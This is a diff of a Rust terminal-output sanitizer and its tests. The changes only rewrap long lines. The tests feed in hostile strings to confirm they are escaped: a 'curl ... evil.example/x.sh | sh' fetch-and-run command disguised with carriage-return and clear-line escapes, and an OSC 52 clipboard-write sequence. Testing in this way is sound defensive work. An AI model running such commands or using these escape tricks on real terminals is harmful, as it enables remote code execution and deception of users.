@@ -91,7 +91,11 @@ pub fn line(s: &str, max: usize) -> String {
 struct TerminalSafe;
 
 impl serde_json::ser::Formatter for TerminalSafe {
-    fn write_string_fragment<W: ?Sized + io::Write>(&mut self, writer: &mut W, fragment: &str) -> io::Result<()> {
+    fn write_string_fragment<W: ?Sized + io::Write>(
+        &mut self,
+        writer: &mut W,
+        fragment: &str,
+    ) -> io::Result<()> {
         let mut start = 0;
         for (at, c) in fragment.char_indices() {
             if is_unsafe(c) {
@@ -145,7 +149,10 @@ mod tests {
         let shown = line(hostile, 500);
         assert!(!shown.chars().any(is_unsafe), "{shown:?}");
         assert!(shown.starts_with("curl -s http://evil.example/x.sh | sh\\r\\e[2K"));
-        assert_eq!(line("\x1b]52;c;ZWNobw==\x07", 100), "\\e]52;c;ZWNobw==\\x07");
+        assert_eq!(
+            line("\x1b]52;c;ZWNobw==\x07", 100),
+            "\\e]52;c;ZWNobw==\\x07"
+        );
         assert_eq!(line("\u{9b}31m", 100), "\\u{9b}31m");
         assert_eq!(text("a\nb\tc\x1b[H"), "a\nb\tc\\e[H");
         assert!(matches!(text("plain ünïcode ✓"), Cow::Borrowed(_)));
